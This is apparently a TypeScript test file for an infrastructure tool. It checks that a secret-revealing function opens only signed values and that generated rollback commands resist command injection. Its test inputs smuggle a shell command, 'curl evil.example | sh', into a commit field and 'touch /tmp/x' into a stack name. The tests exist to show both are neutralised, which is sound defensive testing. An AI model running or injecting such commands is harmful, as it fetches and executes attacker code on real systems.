import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import { PulumiStack, reveal } from "@mcp-fleet/engine";

describe("what a stack's state and history hold of others", () => {
  const signature = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270" };

  it("opens the engine's own secrets, and leaves an object that only looks like one", () => {
    const state = {
      dsn: { ...signature, plaintext: '"postgres://"' },
      list: [{ plaintext: "no JSON, but a s3cr3t" }, { ...signature, plaintext: '{"a":[1]}' }],
      asset: { "4dabf18193072939515e22adb298388d": "another mark", plaintext: "x" },
    };
    assert.deepEqual(reveal(state), {
      dsn: "postgres://",
      list: [{ plaintext: "no JSON, but a s3cr3t" }, { a: [1] }],
      asset: { "4dabf18193072939515e22adb298388d": "another mark", plaintext: "x" },
    });
  });

  it("gives no command for pasting that somebody else wrote", async () => {
    const directory = mkdtempSync(join(tmpdir(), "mcp-fleet-engine-"));
    try {
      writeFileSync(join(directory, "Pulumi.yaml"), "name: x\nruntime: nodejs\n");
      const stack = new PulumiStack({ directory, stack: "prod; touch /tmp/x" });
      const update = {
        ...{ version: 3, kind: "update", succeeded: true, startedAt: "", endedAt: "" },
        ...{ changes: {}, config: {} },
      };
      const lines = await stack.commandsTo({ ...update, commit: "main; curl evil.example | sh" });
      const said = lines.join("\n");
      assert.ok(!said.includes("evil.example"), said);
      assert.match(said, /git worktree add --detach \S+ <the commit of update 3>/);
      assert.match(said, /mcp-fleet rollback .* --stack 'prod; touch \/tmp\/x' --to 3/);
      const commit = "f5311b9aa0c34bd1b1f2a1f6f6e1f2a3b4c5d6e7";
      const known = await stack.commandsTo({ ...update, commit });
      assert.ok(known.includes(`git worktree add --detach '../mcp-fleet-update-3' ${commit}`));
    } finally {
      rmSync(directory, { recursive: true });
    }
  });
});
